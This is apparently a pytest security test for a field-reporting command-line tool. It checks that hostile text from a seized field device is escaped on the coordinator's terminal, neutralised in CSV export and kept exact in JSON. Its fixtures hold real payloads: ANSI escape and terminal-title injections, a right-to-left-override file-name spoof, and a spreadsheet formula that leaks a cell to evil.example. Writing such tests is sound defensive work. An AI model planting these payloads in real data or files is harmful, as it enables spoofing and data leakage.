"""Hostile text from a (seized) field device reaches the coordinator's terminal and files harmless.

A real field device writes control characters, a right-to-left override (U+202E,
Trojan Source), rich markup and spreadsheet formulas into field values, notes, an
attachment's file name and its own device label; it syncs, the coordinator pulls,
and every human output of the coordinator shows them escaped (``\\x1b``,
``\\u202e``), rich markup shown as text, CSV cells neutralised (defusedcsv), and the
JSON export exact.
"""

from __future__ import annotations

import csv
import io
import json

from clients.local.profile import Profile
from tests.cli.conftest import PASSPHRASE

ESC = "\x1b"
RLO = "\u202e"
EVIL_PLACE = f"{ESC}[2J{ESC}[31mMarket{RLO}txt.exe"
EVIL_NOTE = f"seen at {ESC}]0;pwned{chr(7)} the {RLO}gate\rOVERWRITTEN"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
MARKUP = "[bold red]not markup[/] [/] [link=http://evil.example]x[/link]"
EVIL_LABEL = f"phone {ESC}[8m{RLO}hidden"
EVIL_CONFLICT = f"North{ESC}[1A{RLO}"


def _raw_control(text: str) -> list[str]:
    """Control or bidi characters in ``text`` that are not plain layout (newline, tab)."""
    return [c for c in text if (ord(c) < 32 and c not in "\n\t") or c in (RLO, "\x7f")]


def test_hostile_text_is_escaped_on_the_terminal_neutralised_in_csv_exact_in_json(
    shared_server, devices, tmp_path
) -> None:
    coord = devices("coordinator")
    coord.run("org", "create", "--server", shared_server.url, "--name", "Clinic")
    field = devices("field")
    code = coord.run("invite", "create").json["code"]
    field.run("enroll", code, "--label", EVIL_LABEL)
    photo = tmp_path / f"photo{ESC}[31m{RLO}gpj.exe"
    photo.write_bytes(b"\xff\xd8 not really a jpeg")
    report = field.run(
        "report", "new",
        "-f", f"area={EVIL_PLACE}",
        "-f", "zone=Market",
        "-f", f"formula={FORMULA}",
        "-f", f"markup={MARKUP}",
        "--note", EVIL_NOTE,
        "--attach", str(photo),
    ).json["report_id"]  # fmt: skip
    field.run("sync")  # the attachment waits for admission
    coord.run("sync")  # admits the field device, pulls the report
    field.run("sync")  # uploads the attachment
    # A conflict whose values are hostile too.
    coord.run("report", "edit", report, "-f", "zone=Depot")
    field.run("report", "edit", report, "-f", f"zone={EVIL_CONFLICT}")
    field.run("sync")
    coord.run("sync")

    # Stored warnings are shown by `status` (server-chosen text ends up there).
    profile = Profile.open(coord.home, secret_passphrase=PASSPHRASE.encode())
    try:
        profile.warn(f"admission refused: {ESC}[2J{RLO}[/]")
    finally:
        profile.close()

    outputs = {
        "reports list": coord.run("reports", "list", as_json=False),
        "reports show": coord.run("reports", "show", report, as_json=False),
        "conflicts list": coord.run("conflicts", "list", as_json=False),
        "attachments list": coord.run("attachments", "list", report, as_json=False),
        "devices list": coord.run("devices", "list", as_json=False),
        "status": coord.run("status", as_json=False),
    }
    for name, result in outputs.items():
        shown = result.stdout + result.stderr
        assert "Traceback" not in shown, (name, shown)
        assert _raw_control(shown) == [], (name, shown)
        assert "\\x1b" in shown and "\\u202e" in shown, (name, shown)
    listed = outputs["reports list"].stdout + outputs["reports show"].stdout
    assert "\\x1b[2J\\x1b[31mMarket\\u202etxt.exe" in outputs["reports show"].stdout
    assert MARKUP in listed  # rich markup is shown as the text it is, never applied
    assert "\\x07" in outputs["reports show"].stdout and "\\r" not in listed
    assert "photo\\x1b[31m\\u202egpj.exe" in outputs["attachments list"].stdout
    assert "phone \\x1b[8m\\u202ehidden" in outputs["devices list"].stdout
    assert "North\\x1b[1A\\u202e" in outputs["conflicts list"].stdout
    assert "[/]" in outputs["status"].stderr

    # CSV: no cell starts a formula; the text is otherwise kept.
    text = coord.run("reports", "export", "--format", "csv", as_json=False).stdout
    rows = list(csv.DictReader(io.StringIO(text)))
    values = {(r["field"], r["value"]) for r in rows}
    assert ("formula", "'" + FORMULA) in values
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
    assert ("markup", MARKUP) in values

    # JSON: exact, every character as written.
    exported = json.loads(coord.run("reports", "export", "--format", "json", as_json=False).stdout)
    (state,) = exported
    assert state["fields"]["formula"]["value"] == FORMULA
    assert {v["value"] for v in state["fields"]["zone"]["values"]} == {"Depot", EVIL_CONFLICT}
    assert state["fields"]["markup"]["value"] == MARKUP
    assert [n["text"] for n in state["notes"]] == [EVIL_NOTE]
    assert [a["name"] for a in state["attachments"]] == [photo.name]
    shown_json = coord.run("reports", "show", report).json
    assert shown_json["notes"][0]["text"] == EVIL_NOTE
